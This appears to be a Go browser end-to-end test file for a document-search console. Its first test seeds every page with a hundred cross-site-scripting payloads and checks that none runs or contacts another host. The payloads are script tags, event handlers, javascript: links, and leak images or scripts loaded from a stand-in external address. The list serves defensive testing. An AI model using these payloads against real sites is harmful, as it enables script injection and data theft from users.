package e2e_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/cairn-rag/cairn/internal/client"
	"github.com/cairn-rag/cairn/internal/model/modeltest"
)

// payloads returns a hundred texts that run a script, or ask another site, in pages that
// take text for HTML: each way to do it in each place where a text may stand.
func payloads() []string {
	ways := []string{
		`<script>window.ran=1</script>`, `<script src=//203.0.113.1/x.js></script>`, `<img src=x onerror=window.ran=1>`, `<img src=http://203.0.113.1/leak.png>`,
		`<svg onload=window.ran=1>`, `<svg><script>window.ran=1</script></svg>`, `<body onload=window.ran=1>`, `<iframe src="javascript:parent.ran=1"></iframe>`,
		`<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`, `<a href="javascript:window.ran=1">a</a>`, `<a href="data:text/html,<script>1</script>">a</a>`,
		`<style>@import "http://203.0.113.1/x.css"</style>`, `<link rel=stylesheet href=http://203.0.113.1/x.css>`, `<meta http-equiv=refresh content="0;url=http://203.0.113.1/">`,
		`<video src=x onerror=window.ran=1></video>`, `<details open ontoggle=window.ran=1>a</details>`, `<input autofocus onfocus=window.ran=1>`, `<math><mi xlink:href="javascript:window.ran=1">a</mi></math>`,
		`<object data="javascript:window.ran=1"></object>`, `<form action=http://203.0.113.1/><button>a</button></form>`, `<base href=http://203.0.113.1/>`, `[a](javascript:window.ran=1)`,
		`![a](http://203.0.113.1/leak.png)`, `<citation id="x" onclick="window.ran=1">[1]</citation>`, `<web_citation url="javascript:window.ran=1" title="a">[1]</web_citation>`,
	}
	var all []string
	for _, place := range []string{"%s", `">%s`, `'-->%s`, `</title></textarea></script>%s`} {
		for _, way := range ways {
			all = append(all, fmt.Sprintf(place, way))
		}
	}
	return all
}

// TestConsoleRunsNoPayload has hostile names, tags, texts and an answer in every page.
func TestConsoleRunsNoPayload(t *testing.T) {
	t.Parallel()
	page := browser(t)
	m := standIn(t, modeltest.Options{})
	s := start(t, at(m.URL())...)
	all := payloads()
	if len(all) != 100 {
		t.Fatalf("%d payloads", len(all))
	}
	id := ""
	for i, payload := range all {
		var made struct{ ID string }
		s.call(t, "POST", "/workspaces/default/webhooks/document?projectId=default", map[string]any{
			"name": strings.ReplaceAll(payload, "/", "∕"), "externalId": fmt.Sprintf("%d %s", i, payload), "tags": []string{payload}, "content": map[string]string{"text": "# " + payload + "\n\n" + payload},
		}, &made)
		id = made.ID
	}
	s.awaitPublished(t, len(all))
	s.nameBy(t, all, id)
	sync := s.syncsOf(t, all)
	evaluated := s.hostileEvaluation(t, m, all)
	m.ScriptChat(modeltest.Text(strings.Join(all, "\n\n")))
	asked, thrown := trafficOf(t, page), thrownIn(page)
	s.signInto(t, page)
	clean := func(where string) {
		t.Helper()
		const state = `({ran: window.ran ?? 0, made: document.querySelectorAll("main script, main iframe, main style, main link, main meta, main object, main base, main math, body img:not([src^='/']), a[href^='javascript'], a[href^='data']").length})`
		if got := evaluate[map[string]int](t, page, state); got["ran"] != 0 || got["made"] != 0 {
			t.Errorf("%s made of a payload %v", where, got)
		}
	}
	askOnPage(t, page, all[2])
	awaitPage(t, page, answersOnPage+" === 1")
	clean("the answer")
	for path, there := range map[string]string{
		"/documents": `document.querySelectorAll("tbody tr").length === 100`, "/documents/" + id: `!!document.querySelector(".passages li")`,
		"/runs": `document.querySelectorAll("tbody tr").length > 50`, "/ask": `document.querySelectorAll(".conversations li").length === 1`,
		"/members": `document.querySelectorAll("tbody tr").length === 100`, "/members/" + url.PathEscape(all[2]): `document.querySelector("h2")?.textContent.includes("onerror")`,
		"/grants": `document.querySelectorAll("tbody tr").length === 100`, "/holds": `document.querySelectorAll("tbody tr").length === 100`,
		"/projects/default/privacy": `!!document.querySelector("main .empty")`, "/retention": `document.querySelectorAll("tbody tr").length === 1`,
		"/syncs":            `document.querySelectorAll('table[aria-label="Syncs"] tbody tr').length === 100 && document.querySelectorAll(".state.failed").length === 100`,
		"/syncs/" + sync:    `document.querySelectorAll(".facts dd").length > 5 && !!document.querySelector("table[aria-label=Runs] tbody tr")`,
		"/evaluations/sets": `document.querySelectorAll('[data-list] tbody tr').length === 1`, "/evaluations/sets/" + evaluated.set: `document.querySelectorAll("tbody tr").length === 100`,
		"/evaluations/" + evaluated.id: `(document.querySelector('table[aria-label="Answers"]')?.scrollIntoView(), document.querySelectorAll('table[aria-label="Answers"] tbody tr').length === 12)`, "/evaluations/" + evaluated.id + "/review": `!!document.querySelector(".review h2")`,
		"/evaluations/compare?a=" + evaluated.id + "&b=" + evaluated.id: `!!document.querySelector('table[aria-label="Differences"]')`, "/evaluations/insights": `!!document.querySelector("main section")`,
	} {
		open(t, page, s.ends.API+path)
		awaitPage(t, page, there)
		clean(path)
	}
	if len(*thrown) > 0 {
		t.Errorf("the pages threw %s", *thrown)
	}
	asked.wantOnly(t, s.ends.API)
}

// nameBy makes a member, a grant and a hold of each text.
func (s *server) nameBy(t *testing.T, all []string, document string) {
	t.Helper()
	for _, text := range all {
		for path, body := range map[string]map[string]any{
			"PUT /members/" + url.PathEscape(text): {"roles": []string{"reader"}, "groups": []string{text}},
			"POST /grants":                         {"subject": map[string]string{"group": text}, "object": map[string]string{"document_id": document}, "effect": "allow", "permission": "read", "reason": text},
			"POST /holds":                          {"name": text, "reason": text, "document_ids": []string{document}},
		} {
			method, path, _ := strings.Cut(path, " ")
			if status := s.call(t, method, "/workspaces/default"+path, body, nil); status >= 300 {
				t.Fatalf("%s for %s: status %d", path, text, status)
			}
		}
	}
}

// syncsOf makes a sync of each of these names, whose place cannot be reached, and returns the
// id of the last one.
func (s *server) syncsOf(t *testing.T, names []string) (id string) {
	t.Helper()
	made, err := s.AddConnection(t.Context(), client.NewConnection{Type: "webdav", Options: map[string]string{"url": "http://127.0.0.1:1/", "username": names[0]}, Secret: "x"})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range names {
		y, err := s.AddSync(t.Context(), client.NewSync{ConnectionID: made.ID, ProjectID: "default", Scope: map[string]string{"folder": name}, Tags: []string{name}, Every: "24h"})
		if err != nil {
			t.Fatal(err)
		}
		id = y.ID
	}
	return id
}

// hostileEvaluated is an evaluation and its test set.
type hostileEvaluated struct{ id, set string }

// hostileEvaluation evaluates questions that are payloads, with answers that are payloads.
func (s *server) hostileEvaluation(t *testing.T, m *modeltest.Server, all []string) hostileEvaluated {
	t.Helper()
	const asked = 12
	m.ScriptChat(slices.Repeat([]modeltest.Reply{modeltest.Text(strings.Join(all, "\n\n"))}, asked)...)
	var items []map[string]any
	for i, payload := range all {
		items = append(items, map[string]any{"id": fmt.Sprint("q", i), "question": payload, "reference": payload, "tags": []string{payload[:min(len(payload), 60)]}, "expected_documents": []string{payload}})
	}
	set := s.testSet(t, items)
	e := s.evaluate(t, map[string]any{"test_set_id": set, "sample": asked})
	s.evaluated(t, e.ID, "it has ended", hasEnded)
	return hostileEvaluated{e.ID, set}
}

// TestConsoleShowsALongAnswer streams an answer of 20,000 characters with headings, tables
// and code, and compares the page with the same page after a reload.
func TestConsoleShowsALongAnswer(t *testing.T) {
	t.Parallel()
	page := browser(t)
	m := standIn(t, modeltest.Options{})
	s := start(t, at(m.URL())...)
	s.publish(t, "lights", "The northern pier has a lighthouse.")
	part := "## Piers\n\nThe **northern** pier has a lighthouse, and `code` in it.\n\n| Pier | Has |\n| --- | --- |\n| north | light |\n| south | horn |\n\n- one\n- two\n\n```\nlet there = light;\n```\n\n"
	text := strings.TrimSpace(strings.Repeat(part, 20_000/len(part)+1))
	m.ScriptChat(modeltest.Reply{Text: text, TokenDelay: time.Millisecond})
	s.signInto(t, page)
	do(t, page, chromedp.Evaluate(`window.shifted = 0;
		new PerformanceObserver(list => list.getEntries().forEach(one => window.shifted += one.hadRecentInput ? 0 : one.value)).observe({type: "layout-shift"})`, nil))
	askOnPage(t, page, "What is on the piers?")
	awaitPage(t, page, answersOnPage+" === 1")
	if shifted := evaluate[float64](t, page, `window.shifted`); shifted != 0 {
		t.Errorf("the page shifted by %g while the answer came", shifted)
	}
	if stored := s.lastAnswer(t); stored != text {
		t.Errorf("stored are %d characters of %d", len(stored), len(text))
	}
	const shown = `document.querySelector(".words").innerHTML`
	streamed := evaluate[string](t, page, shown)
	do(t, page, chromedp.Reload())
	awaitPage(t, page, answersOnPage+" === 1")
	wantSame(t, "the streamed answer", streamed, evaluate[string](t, page, shown))
	if tables := evaluate[int](t, page, `document.querySelectorAll(".words table").length`); tables != strings.Count(text, "| Pier |") {
		t.Errorf("%d tables", tables)
	}
}

// TestConsoleSignsInAgain revokes the key of a session. The next action asks for a key over
// the page, which is there again after it.
func TestConsoleSignsInAgain(t *testing.T) {
	t.Parallel()
	page := browser(t)
	s := start(t)
	s.publish(t, "lights", "The northern pier has a lighthouse.")
	var key struct{ ID, Key string }
	s.call(t, "POST", "/workspaces/default/keys", map[string]any{"name": "short", "scopes": []string{"read"}}, &key)
	open(t, page, s.ends.API+"/documents")
	do(t, page, chromedp.SendKeys(`dialog input`, key.Key+kb.Enter, chromedp.ByQuery))
	awaitPage(t, page, rowsOnPage+` === "lights"`)
	if status := s.call(t, "DELETE", "/workspaces/default/keys/"+key.ID, nil, nil); status != http.StatusNoContent {
		t.Fatalf("revoke the key: %d", status)
	}
	press(t, page, "Name")
	awaitPage(t, page, `document.querySelector("dialog.signin p")?.textContent.startsWith("Your session has ended")`)
	do(t, page, chromedp.SendKeys(`dialog input`, "wrong"+kb.Enter, chromedp.ByQuery))
	awaitPage(t, page, `document.querySelector("dialog.signin .wrong").textContent !== ""`)
	do(t, page, chromedp.SendKeys(`dialog input`, s.key+kb.Enter, chromedp.ByQuery))
	awaitPage(t, page, `!document.querySelector("dialog") && location.pathname === "/documents" && `+rowsOnPage+` === "lights"`)
}

// TestConsoleSignOutEndsItsStreams signs a browser out while another tab of it shows an answer
// that has not ended: the tab reads nothing further, and asks for a key.
func TestConsoleSignOutEndsItsStreams(t *testing.T) {
	t.Parallel()
	page := browser(t)
	m := standIn(t, modeltest.Options{})
	s := start(t, at(m.URL())...)
	s.publish(t, "lights", "The northern pier has a lighthouse.")
	m.ScriptChat(modeltest.Hang())
	s.signInto(t, page)
	askOnPage(t, page, "What is on the northern pier?")
	awaitPage(t, page, `!!document.querySelector(".answer.live .phase") && location.pathname !== "/ask"`)
	const signOut = `fetch("/auth/session", {method: "DELETE"}).then(r => (window.out = performance.now(), r.status))`
	if status := evaluate[int](t, page, signOut); status != http.StatusNoContent {
		t.Fatalf("sign out: %d", status)
	}
	awaitPage(t, page, `document.querySelector("dialog.signin p")?.textContent.startsWith("Your session has ended")`)
	if took := evaluate[float64](t, page, `performance.now() - window.out`); took > 10_000 {
		t.Errorf("the stream ended after %.0f ms", took)
	}
}

// TestConsoleGoesOnWithoutNetwork takes the network away in the middle of an answer, until
// the answer is complete.
func TestConsoleGoesOnWithoutNetwork(t *testing.T) {
	t.Parallel()
	page := browser(t)
	text := strings.TrimSpace(strings.Repeat("word ", 500))
	rest := make(chan struct{})
	m := standIn(t, always(modeltest.Reply{Text: text, TokenDelay: 20 * time.Millisecond, Rest: rest}))
	s := start(t, at(m.URL())...)
	s.publish(t, "lights", "The northern pier has a lighthouse.")
	between := newWire(t, strings.TrimPrefix(s.ends.API, "http://"))
	open(t, page, "http://"+between.Addr().String()+"/")
	do(t, page, chromedp.SendKeys(`dialog input`, s.key+kb.Enter, chromedp.ByQuery))
	awaitPage(t, page, `!!document.querySelector("textarea.question")`)
	askOnPage(t, page, "What is on the northern pier?")
	awaitPage(t, page, `(document.querySelector(".words")?.textContent.match(/word/g) ?? []).length > 20`)
	between.cut(true)
	awaitPage(t, page, `!!document.querySelector(".lost:not([hidden])")`)
	close(rest)
	await(t, time.Minute, "the run ends without the page", func(context.Context) error {
		var list struct{ Data []struct{ Status string } }
		s.call(t, "GET", "/workspaces/default/runs?kind=query", nil, &list)
		if list.Data[0].Status != "completed" {
			return fmt.Errorf("it is %s", list.Data[0].Status)
		}
		return nil
	})
	between.cut(false)
	awaitPage(t, page, answersOnPage+" === 1")
	wantSame(t, "the answer", evaluate[string](t, page, `document.querySelector(".words").textContent`), text)
}

// wire passes connections on to a server, until it is cut.
type wire struct {
	net.Listener
	mu    sync.Mutex
	isCut bool
	open  []net.Conn
}

func newWire(t *testing.T, server string) *wire {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	w := &wire{Listener: listener}
	t.Cleanup(func() {
		_ = listener.Close()
		w.cut(true)
	})
	go func() {
		for {
			from, err := listener.Accept()
			if err != nil {
				return
			}
			to, err := net.Dial("tcp", server)
			if err != nil || !w.keep(from, to) {
				_ = from.Close()
				continue
			}
			go func() { _, _ = io.Copy(to, from) }()
			go func() { _, _ = io.Copy(from, to) }()
		}
	}()
	return w
}

// keep notes an open connection; it reports false if the wire is cut.
func (w *wire) keep(pair ...net.Conn) bool {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.open = append(w.open, pair...)
	return !w.isCut
}

// cut ends all connections and refuses new ones, or accepts them again.
func (w *wire) cut(off bool) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.isCut = off
	for _, one := range w.open {
		_ = one.Close()
	}
	w.open = nil
}

// TestConsoleByKeyboard asks, opens a citation and walks through documents without a mouse.
func TestConsoleByKeyboard(t *testing.T) {
	t.Parallel()
	page := browser(t)
	s := start(t)
	s.publish(t, "lights", "The northern pier has a lighthouse. The southern pier has a foghorn.")
	s.publish(t, "cranes", "The eastern pier has a crane.")
	open(t, page, s.ends.API+"/documents")
	awaitPage(t, page, `document.activeElement?.name === "key"`)
	do(t, page, chromedp.KeyEvent(s.key+kb.Enter))
	awaitPage(t, page, rowsOnPage+`.split("|").length === 2`)
	do(t, page, chromedp.KeyEvent("jj"), chromedp.KeyEvent("k"))
	awaitPage(t, page, `document.activeElement.matches("tbody a") && document.activeElement.textContent === "cranes"`)
	do(t, page, chromedp.KeyEvent("j"), chromedp.KeyEvent(kb.Enter))
	awaitPage(t, page, `document.querySelector("h1")?.textContent === "lights"`)
	do(t, page, chromedp.KeyEvent("?"))
	awaitPage(t, page, `!!document.querySelector("dialog .keys")`)
	do(t, page, chromedp.KeyEvent(kb.Escape))
	awaitPage(t, page, `!document.querySelector("dialog") && !document.activeElement?.closest("input, textarea")`)
	do(t, page, chromedp.KeyEvent("/"))
	awaitPage(t, page, `document.activeElement?.name === "question"`)
	do(t, page, chromedp.KeyEvent("What is on the northern pier?"+kb.Enter))
	awaitPage(t, page, answersOnPage+` === 1 && !!document.querySelector(".citation")`)
	s.tabTo(t, page, `document.activeElement.matches(".citation")`)
	do(t, page, chromedp.KeyEvent(kb.Enter))
	awaitPage(t, page, `document.activeElement.matches(".panel h2") && document.querySelector(".panel").textContent.includes("lighthouse")`)
	do(t, page, chromedp.KeyEvent(kb.Escape))
	awaitPage(t, page, `document.querySelector(".panel").hidden && document.activeElement.matches(".citation")`)
}

// tabTo presses Shift+Tab, as from the question upwards, until an element has the focus.
func (s *server) tabTo(t *testing.T, page context.Context, there string) {
	t.Helper()
	for range 60 {
		if evaluate[bool](t, page, there) {
			return
		}
		do(t, page, chromedp.KeyEvent(kb.Tab, chromedp.KeyModifiers(8)))
	}
	t.Fatalf("never %s", there)
}

// TestConsoleInGerman shows every page in German.
func TestConsoleInGerman(t *testing.T) {
	t.Parallel()
	page := browser(t)
	s := start(t)
	s.publish(t, "lichter", "Der nördliche Pier hat einen Leuchtturm.")
	s.signInto(t, page)
	do(t, page, chromedp.Evaluate(`localStorage.setItem("cairn.language", "de")`, nil), chromedp.Reload())
	awaitPage(t, page, `document.documentElement.lang === "de" && document.querySelector("nav")?.textContent.includes("Dokumente")`)
	for path, heading := range map[string]string{"/documents": "Dokumente", "/runs": "Läufe", "/imports": "Importe", "/syncs": "Abgleiche", "/evaluations": "Auswertungen", "/evaluations/sets": "Testsätze", "/evaluations/new": "Neue Auswertung", "/evaluations/compare": "Vergleichen", "/evaluations/insights": "Erkenntnisse", "/projects": "Projekte", "/operations": "Betrieb", "/usage": "Nutzung", "/members": "Zugriff", "/roles": "Zugriff", "/grants": "Zugriff", "/holds": "Zugriff", "/retention": "Zugriff", "/audit": "Zugriff"} {
		open(t, page, s.ends.API+path)
		awaitPage(t, page, fmt.Sprintf(`document.querySelector("h1")?.textContent.includes(%q)`, heading))
	}
	wantLooks(t, page)
	open(t, page, s.ends.API+"/projects/default")
	const field = `document.getElementById("field-ai.retrieval.numberOfChunks")?.closest(".field")`
	awaitPage(t, page, field+`?.querySelector("label").textContent === "Anzahl der Stellen numberOfChunks"`)
	if help := evaluate[string](t, page, field+`.querySelector("p").textContent`); help != "So viele Stellen bekommt das Modell. Vorgabe: je nach preset, sonst 10. 1 bis 100" {
		t.Errorf("the help is %q", help)
	}
	const english = `[...document.querySelectorAll(".fields p")].map(p => p.textContent).filter(text => /\b(the|Default|passages)\b/.test(text))`
	if left := evaluate[[]string](t, page, english); len(left) > 0 {
		t.Errorf("in English is still %q", left)
	}
	do(t, page, chromedp.Evaluate(`document.querySelector(".fields details").open = true`, nil))
	wantLooks(t, page)
}
